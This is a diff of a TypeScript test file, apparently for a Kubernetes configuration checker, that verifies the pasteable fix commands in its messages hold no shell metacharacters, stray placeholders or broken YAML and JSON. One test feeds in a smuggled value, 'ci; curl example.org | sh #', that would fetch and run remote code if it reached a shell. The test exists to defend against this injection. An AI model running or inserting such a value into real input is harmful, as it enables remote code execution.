@@ -1,4 +1,6 @@
 import { describe, expect, it } from 'vitest';
+import { parse } from 'yaml';
+import { findCommand, readFixTexts } from '../../../e2e/fix-texts.ts';
 import type { JsonObject } from '../../../src/objects/json.ts';
 import { account, judgeWith, type Setting } from '../judging.ts';
 import { subjectOf, tokenSecret } from '../subjects.ts';
@@ -55,7 +57,7 @@ describe('The fix', () => {
 
   it('never puts an annotation that is no name into a command that people paste', () => {
     const object = tokenSecret({ 'kubernetes.io/service-account.name': 'ci; curl example.org | sh #' });
-    expect(fixOf('secrets', object)).toContain('kubectl create token <service account> ');
+    expect(fixOf('secrets', object)).toContain('kubectl create token ACCOUNT ');
   });
 
   it('cannot be pasted as it stands to silence the check', () => {
@@ -96,3 +98,47 @@ describe('A template with a volume that only bears the name of the default one',
     expect(verdict.warnings).toEqual([]);
   });
 });
+
+describe('The fixes of the golden messages', () => {
+  const texts = readFixTexts();
+
+  it('end with their command, and leave no placeholder that a shell takes for a file', () => {
+    for (const text of texts) {
+      const command = findCommand(text) ?? '';
+      const before = text.slice(0, text.length - command.length);
+      expect(before).not.toMatch(/\b(kubectl|kubeadm) (?:\w+ )*\w+ .*--/);
+      expect(command.replaceAll(/"[^"]*"|'[^']*'/g, '')).not.toMatch(/[<>;,|&$`()]|\.$/);
+    }
+    // Too late for kubectl without a server: what it would send.
+    for (const [, patch = ''] of texts.join('\n').matchAll(/--patch '(.*)'/g))
+      expect(JSON.parse(patch)).toBeTypeOf('object');
+    expect(texts.filter((text) => findCommand(text) !== undefined).length).toBeGreaterThan(texts.length / 4);
+  });
+
+  it('show what goes into a manifest as YAML that is whole: a rule, an object, a source', () => {
+    const fragments = texts.flatMap(listBraces);
+    for (const fragment of fragments) expect(Object.values(parse(fragment)).includes(null)).toBe(false);
+    const rules = fragments.map((fragment) => Object.keys(parse(fragment))).filter((keys) => keys.includes('verbs'));
+    for (const keys of rules) expect(keys).toEqual(expect.arrayContaining(['apiGroups', 'resources']));
+    expect({ rules: rules.length > 5, others: fragments.length - rules.length > 5 }).toEqual({
+      rules: true,
+      others: true,
+    });
+    // Half a rule, without its braces, fits nowhere.
+    for (const text of texts) expect(text.replaceAll(/\{.*\}/g, '')).not.toMatch(/\], [a-zA-Z]+: \[/);
+  });
+});
+
+/** The outermost `{…}` of `text`, outside of commands. */
+function listBraces(text: string): readonly string[] {
+  const found: string[] = [];
+  const plain = text.slice(0, text.length - (findCommand(text) ?? '').length);
+  let depth = 0;
+  let start = 0;
+  for (const { 0: brace, index } of plain.matchAll(/[{}]/g)) {
+    if (brace === '{' && depth === 0) start = index;
+    depth += brace === '{' ? 1 : -1;
+    if (depth === 0) found.push(plain.slice(start, index + 1));
+  }
+  return found;
+}
